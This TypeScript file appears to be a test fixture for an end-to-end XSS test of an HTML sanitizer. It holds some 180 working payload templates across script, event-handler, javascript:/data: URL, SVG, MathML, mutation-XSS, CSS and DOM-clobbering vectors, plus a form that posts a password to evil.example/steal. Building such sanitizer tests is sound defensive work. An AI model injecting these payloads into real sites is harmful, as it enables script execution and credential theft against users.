/**
 * Hostile HTML for the XSS test (tests/e2e/xss.spec.ts): every payload tries to run code that calls the
 * detector `__xss(id)` (installed by the test before any page script) or to make the browser request a
 * marker URL (`…/__xss-hit/id`, for vectors whose code would run in another origin or that only load CSS).
 *
 * Placeholders: `$X` → `__xss(<id>)`, `$ID` → the id, `$HIT` → code that requests the marker URL,
 * `$URL` → the marker URL itself.
 *
 * `alone`: the payload leaves the HTML parser in a state that swallows what follows (raw text, an
 * unclosed attribute, a frameset), so it is sent on its own page load instead of in a batch.
 */
export interface XssPayload {
  id: number;
  category: string;
  html: string;
  alone: boolean;
}

type Entry = [template: string, alone?: boolean];

const corpus: Record<string, Entry[]> = {
  script: [
    ['<script>$X</script>'],
    ['<SCRIPT>$X</SCRIPT>'],
    ['<script type="module">$X</script>'],
    ['<script src="data:text/javascript,$X"></script>'],
    ['<scr<script>ipt>$X</scr</script>ipt>'],
    ['<script>/*</script><script>$X//*/</script>'],
    ['<div><script>$X</script></div>'],
    ['<<script>$X//<</script>'],
    ['<script\ttype="text/javascript">$X</script>'],
    ['<script src=data:,$X></script>'],
  ],
  'event handler': [
    ['<img src=x onerror=$X>'],
    ['<img src="x" onerror="$X">'],
    ['<img src=x oNeRrOr=$X>'],
    ['<img/src=x/onerror=$X>'],
    ['<img src=x onerror="javascript:$X">'],
    ['<img srcset=x onerror=$X>'],
    ['<picture><source srcset=x><img src=x onerror=$X></picture>'],
    ['<body onload=$X>'],
    ['<body onpageshow=$X>'],
    ['<input autofocus onfocus=$X>'],
    ['<select autofocus onfocus=$X></select>'],
    ['<textarea autofocus onfocus=$X></textarea>'],
    ['<xss-el id=xss$ID tabindex=1 autofocus onfocus=$X></xss-el>'],
    ['<details open ontoggle=$X><summary>x</summary></details>'],
    ['<video><source onerror=$X></video>'],
    ['<video src=x onerror=$X></video>'],
    ['<audio src=x onerror=$X></audio>'],
    ['<audio><source src=x onerror=$X></audio>'],
    ['<video><track src=x onerror=$X></video>'],
    ['<marquee onstart=$X>x</marquee>'],
    ['<div onmouseover=$X>über mich fahren</div>'],
    ['<div onpointerenter=$X>x</div>'],
    ['<a onclick=$X href=#>x</a>'],
    ['<iframe onload=$X></iframe>'],
    ['<object data=x onerror=$X></object>'],
    ['<link rel=stylesheet href=x onerror=$X>'],
    ['<style onload=$X></style>'],
    ['<img src=x onerror=eval(`__xss($ID)`)>'],
    ['<img src=x onerror=setTimeout(`__xss($ID)`)>'],
    ['<img src=x onerror=location=`javascript:__xss($ID)`>'],
    ['<img src=x onerror=import(`data:text/javascript,__xss($ID)`)>'],
    ['<img src=x onerror=&#95;&#95;xss($ID)>'],
    ['<dialog open onclose=$X></dialog>'],
    ['<p onanimationstart=$X>x</p>'],
    ['<frameset onload=$X>', true],
  ],
  'javascript: URL': [
    ['<a href="javascript:$X">x</a>'],
    ['<a href="JaVaScRiPt:$X">x</a>'],
    ['<a href="&#106;avascript:$X">x</a>'],
    ['<a href="java&#x09;script:$X">x</a>'],
    ['<a href="jav&#x0A;ascript:$X">x</a>'],
    ['<a href=" javascript:$X">x</a>'],
    ['<a href="javascript&colon;$X">x</a>'],
    ['<a href="javascript:$X" target="_blank">x</a>'],
    ['<a href="vbscript:$X">x</a>'],
    ['<area href="javascript:$X">'],
    ['<iframe src="javascript:parent.$X"></iframe>'],
    ['<frame src="javascript:parent.$X">'],
    ['<img src="javascript:$X">'],
    ['<base href="javascript:$X//">'],
    ['<table background="javascript:$X"><tr><td>x</td></tr></table>'],
    ['<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+$X//\'>', true],
  ],
  'data: URL': [
    ['<a href="data:text/html,<script>$HIT</script>">x</a>'],
    ['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['<iframe src="data:text/html,<script>$HIT</script>"></iframe>'],
    ['<object data="data:text/html,<script>$HIT</script>"></object>'],
    ['<embed src="data:text/html,<script>$HIT</script>">'],
    ['<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22$HIT%22/>">'],
    ['<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22$X%22/>">'],
    ['<meta http-equiv="refresh" content="0;url=data:text/html,<script>$HIT</script>">'],
    ['<meta http-equiv="refresh" content="0;url=javascript:$X">'],
    ['<link rel="import" href="data:text/html,<script>$HIT</script>">'],
  ],
  SVG: [
    ['<svg onload=$X>'],
    ['<svg><script>$X</script></svg>'],
    ['<svg><script href="data:,$X"/></svg>'],
    ['<svg><a xlink:href="javascript:$X"><text x=20 y=20>x</text></a></svg>'],
    ['<svg><a><animate attributeName=href values=javascript:$X /><text x=20 y=20>x</text></a></svg>'],
    ['<svg><set attributeName=onload to=$X /></svg>'],
    ['<svg><animate onbegin=$X attributeName=x dur=1s /></svg>'],
    ['<svg><discard onbegin=$X /></svg>'],
    ['<svg><image href=x onerror=$X /></svg>'],
    ['<svg><feImage href=x onerror=$X /></svg>'],
    ['<svg><foreignObject><img src=x onerror=$X></foreignObject></svg>'],
    ['<svg><use href="data:image/svg+xml,&lt;svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22&gt;&lt;image href=%221%22 onerror=%22$X%22/&gt;&lt;/svg&gt;#x"/></svg>'],
    ['<svg><style><img src=x onerror=$X></style></svg>'],
    ['<svg><title><img src=x onerror=$X></title></svg>'],
    ['<svg><desc><img src=x onerror=$X></desc></svg>'],
    ['<svg></p><style><a id="</style><img src=1 onerror=$X>">'],
    ['<svg><![CDATA[><image xlink:href="]]><img src=x onerror=$X>"></svg>'],
    ['<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">$X</handler></svg>'],
    ['<svg><a href="javascript:$X"><circle r=100 /></a></svg>'],
    ['<svg><p><style><img src=x onerror=$X></style></p></svg>'],
  ],
  MathML: [
    ['<math><mtext><table><mglyph><style><img src=x onerror=$X></style></mglyph></table></mtext></math>'],
    ['<math><mi xlink:href="javascript:$X">x</mi></math>'],
    ['<math><maction actiontype="statusline" xlink:href="javascript:$X">x</maction></math>'],
    ['<math href="javascript:$X">x</math>'],
    ['<math><a href="javascript:$X">x</a></math>'],
    ['<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=$X>"></style></h1></mtext></math>'],
    ['<math><annotation-xml encoding="text/html"><img src=x onerror=$X></annotation-xml></math>'],
    ['<math><style><img src=x onerror=$X></style></math>'],
    ['<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=$X>">', true],
    ['<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=$X>', true],
  ],
  'mutation XSS': [
    ['<noscript><p title="</noscript><img src=x onerror=$X>"></noscript>', true],
    ['<noscript><style></noscript><img src=x onerror=$X>', true],
    ['<xmp><p title="</xmp><img src=x onerror=$X>">'],
    ['<iframe><p title="</iframe><img src=x onerror=$X>">'],
    ['<noembed><p title="</noembed><img src=x onerror=$X>">'],
    ['<noframes><p title="</noframes><img src=x onerror=$X>">'],
    ['<textarea><p title="</textarea><img src=x onerror=$X>">'],
    ['<title><p title="</title><img src=x onerror=$X>">'],
    ['<style><p title="</style><img src=x onerror=$X>">'],
    ['<template><img src=x onerror=$X></template>'],
    ['<template><script>$X</script></template>'],
    ['<div><template shadowrootmode="open"><img src=x onerror=$X></template></div>'],
    ['<div><template shadowrootmode="open"><script>$X</script></template></div>'],
    ['<table><style><img src=x onerror=$X></style></table>'],
    ['<a><table><a><img src=x onerror=$X></a></table></a>'],
    ['<p><table></p><img src=x onerror=$X></table>'],
    ['<!--<img src="--><img src=x onerror=$X//">'],
    ['<!-- --!><img src=x onerror=$X> -->'],
    ['<![CDATA[><img src=x onerror=$X>]]>'],
    ['<? foo="><img src=x onerror=$X>">'],
    ['<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=$X>">', true],
    ['<svg><style>&lt;img src=x onerror=$X&gt;</style></svg>'],
    ['<div title="&lt;img src=x onerror=$X&gt;">x</div>'],
    ['&lt;img src=x onerror=$X&gt;'],
    ['<a href="x" title="<img src=x onerror=$X>">x</a>'],
    ['<img src="x" alt="``><img src=x onerror=$X>">'],
    ['<!--[if gte IE 4]><img src=x onerror=$X><![endif]-->'],
    ['<img src=x onerror=$X', true],
  ],
  srcdoc: [
    ['<iframe srcdoc="<script>parent.$X</script>"></iframe>'],
    ['<iframe srcdoc="&lt;img src=x onerror=parent.$X&gt;"></iframe>'],
    ['<iframe srcdoc="<svg onload=parent.$X>"></iframe>'],
    ['<iframe srcdoc="<iframe srcdoc=&quot;<script>parent.parent.$X</script>&quot;></iframe>"></iframe>'],
    ['<iframe src="/ippc/" srcdoc="<script>parent.$X</script>"></iframe>'],
  ],
  form: [
    ['<form action="javascript:$X"><button>Senden</button></form>'],
    ['<form><button formaction="javascript:$X">x</button></form>'],
    ['<form id="f$ID"></form><button form="f$ID" formaction="javascript:$X">x</button>'],
    ['<form onsubmit=$X><input type=submit></form>'],
    ['<form><input type=image src=x onerror=$X></form>'],
    ['<isindex action="javascript:$X" type=submit>'],
    ['<form action="https://evil.example/steal"><label>Passwort <input name=passwort type=password></label></form>'],
    ['<input type="hidden" accesskey="x" onclick="$X">'],
  ],
  'object and embed': [
    ['<object data="javascript:$X"></object>'],
    ['<embed src="javascript:$X">'],
    ['<object><param name="src" value="javascript:$X"></object>'],
    ['<object type="text/x-scriptlet" data="x"></object>'],
    ['<embed code="x" allowscriptaccess=always>'],
    ['<applet code="x"></applet>'],
  ],
  CSS: [
    ['<div style="background:url(javascript:$X)">x</div>'],
    ['<div style="background-image:url(\'$URL\')">x</div>'],
    ['<p style="background:url(&quot;$URL&quot;)">x</p>'],
    ['<div style="--x:url(\'$URL\');background:var(--x)">x</div>'],
    ['<style>@import \'$URL\';</style>'],
    ['<style>body{background:url(\'$URL\')}</style>'],
    ['<link rel=stylesheet href="$URL">'],
    ['<link rel=prefetch href="$URL">'],
    ['<div style="width:expression($X)">x</div>'],
    ['<style>*{x:expression($X)}</style>'],
    ['<div style="behavior:url(x.htc)">x</div>'],
    ['<style>@keyframes k$ID{}</style><div style="animation-name:k$ID" onanimationstart="$X">x</div>'],
    ['<div style="position:fixed;inset:0;z-index:9999" onmouseover="$X">Overlay</div>'],
  ],
  'attribute breaking': [
    ['<img src=x alt="x"onerror="$X">'],
    ["<img src=x alt='x'onerror='$X'>"],
    ['<a href="x"onclick="$X">x</a>'],
    ['<img src=x onerror=$X/>'],
    ['<img src="x" title="a" onerror="$X" title="b">'],
    ['<img """><script>$X</script>">'],
    ['<img src="x"/onerror="$X">'],
    ['<img src=x onerror\t=$X>'],
    ['<img src=x\nonerror=$X>'],
    ['<div title="x" ""="" onmouseover="$X">x</div>'],
    ['"><script>$X</script>'],
    ["'><img src=x onerror=$X>"],
    ["<img src='x' onerror='$X'//>"],
    ['<img src=x onerror="&#x5f;_xss($ID)">'],
    ['<a href="x" target="_blank" rel="opener" onfocus="$X">x</a>'],
  ],
  'DOM clobbering and document control': [
    ['<img name="getElementById"><img name="createElement">'],
    ['<form name="cookie"></form><a id="defaultView"></a>'],
    ['<a id="__xssHits"></a><a id="__xssHits" name="push" href="javascript:$X">x</a>'],
    ['<base href="https://evil.example/">'],
    ['<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">'],
    ['<div is="x-el" onclick=$X>x</div>'],
  ],
};

export function buildCorpus(hitUrl: (id: number) => string): XssPayload[] {
  const payloads: XssPayload[] = [];
  let id = 1;
  for (const [category, entries] of Object.entries(corpus)) {
    for (const [template, alone] of entries) {
      const url = hitUrl(id);
      const html = template
        .replace(/\$X/g, `__xss(${id})`)
        .replace(/\$HIT/g, `new Image().src='${url}'`)
        .replace(/\$URL/g, url)
        .replace(/\$ID/g, String(id));
      payloads.push({ id, category, html, alone: alone === true });
      id += 1;
    }
  }
  return payloads;
}
